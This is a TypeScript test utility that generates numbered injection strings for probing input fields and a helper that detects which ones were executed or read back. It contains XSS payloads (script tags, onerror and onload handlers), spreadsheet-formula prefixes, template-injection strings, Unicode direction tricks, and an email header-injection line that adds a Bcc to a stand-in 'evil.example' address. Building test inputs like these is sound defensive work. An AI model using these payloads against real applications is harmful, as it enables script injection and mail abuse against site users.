/** What people type who mean harm. Each text has a number, so that whatever runs or is read back names the field it came from. */

/** Cells that begin so are formulas to a spreadsheet; the last two begin attributes and addresses. */
const leads = ['=', '+', '-', '@', '＝', '"', "'", 'javascript:xss(0)//']

const pieces = (n: number) => [
  `"><img src=x onerror=xss(${n})>`,
  `<script>xss(${n})</script>`,
  `</textarea></title></style></script><svg onload=xss(${n})>`,
  `' autofocus onfocus=xss(${n}) x='`,
  ']]>&amp;&#60;<!--',
  // Right to left, no width, an isolate that is never closed, and a character pages use for themselves.
  '\u202E\u200B\u2066\uE001',
  '\r\nBcc: xss@evil.example',
  `<%=xss(${n})%>$&$1\\`,
  `{{xss(${n})}}\${xss(${n})}`,
]

/** For names of a few characters. */
const short = '<i id=xss>'

/** Attack number n in at most `max` characters; which piece comes first turns with n and `turn`. `plain`: one line, no braces. */
export function attackText(n: number, max: number, turn = 0, plain = false): string {
  const all = pieces(n).filter((piece) => !plain || !/[{}\r\n]/.test(piece))
  const at = (n + turn) % all.length
  // The number makes each text another: names must be.
  let text = `${leads[(n + turn) % leads.length]!}${n}`
  if (text.length + short.length > max) text = `${n}`
  for (const piece of [...all.slice(at), ...all.slice(0, at), short])
    if (text.length + piece.length <= max) text += piece
  return text
}

/** Which attacks a text speaks of. */
export const attacksIn = (text: string): number[] => [
  ...new Set([...text.matchAll(/xss\(([1-9]\d*)\)/g)].map((match) => Number(match[1]))),
]

/** Texts are compared without what a document may break differently. */
export const withoutBreaks = (text: string): string => text.replace(/\s+/g, '')
